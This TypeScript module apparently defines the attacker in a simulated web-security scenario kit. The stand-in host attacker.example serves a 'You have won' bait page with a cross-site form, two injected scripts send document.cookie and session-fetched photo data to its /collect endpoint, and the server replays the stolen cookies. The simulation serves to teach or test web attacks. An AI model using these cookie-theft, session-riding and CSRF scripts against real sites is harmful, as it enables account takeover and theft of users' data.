/** The attacker: a page with a form that posts to the app, a script that got into the app’s page, and a server that collects. */
import { type HttpHandler, html, json, markup, parseForm } from '../../http/index.ts'
import { appPage } from '../../scenario-kit/parties/app-page.ts'
import { APP } from '../../scenario-kit/parties/cast.ts'
import type { ServerGlobals, TabGlobals } from '../../simulation/index.ts'

/** URL origin of the attacker. */
export const ATTACKER = 'https://attacker.example'

/** The attacker's server: shows the bait, and tries whatever cookie an injected script sends. */
export function createAttacker(globals: ServerGlobals, keep: (loot: string) => void): HttpHandler {
  return async (request) => {
    if (request.method === 'GET') return html(200, baitPage())
    const { data, cookie = '' } = Object.fromEntries(parseForm(request.body))
    if (cookie !== '') keep(cookie)
    keep(data ?? (await tryCookie(globals, cookie)))
    // Any page may send: the injected script runs in somebody else’s.
    return json(200, {}, [['access-control-allow-origin', '*']])
  }
}

/** Uses a stolen cookie from the attacker's own computer. */
async function tryCookie(globals: ServerGlobals, cookie: string): Promise<string> {
  if (cookie === '') return 'no cookie'
  try {
    return (await globals.fetch(`${APP}/api/photos`, { headers: { cookie } })).text()
  } catch {
    return 'no answer'
  }
}

/** The injected script: sends away what cookies it can read. */
export async function stealCookie({ document, fetch }: TabGlobals): Promise<void> {
  // #region injected-script
  await fetch(`${ATTACKER}/collect`, { method: 'POST', body: new URLSearchParams({ cookie: document.cookie }) })
  // #endregion
}

/** The injected script: asks the backend from inside the page and sends the response away. */
export async function rideSession({ fetch }: TabGlobals): Promise<void> {
  // #region injected-script
  const data = await (await fetch('/api/photos', { headers: { 'x-csrf': '1' } })).text()
  await fetch(`${ATTACKER}/collect`, { method: 'POST', body: new URLSearchParams({ data }) })
  // #endregion
}

function baitPage(): string {
  return appPage({
    app: 'Prize Draw',
    title: 'You have won',
    body: markup`<p>One click, and it is yours.</p>
<form id="prize" method="post" action="${APP}/api/orders"><div class="actions"><button type="submit" class="primary">Get it</button></div></form>`,
  })
}
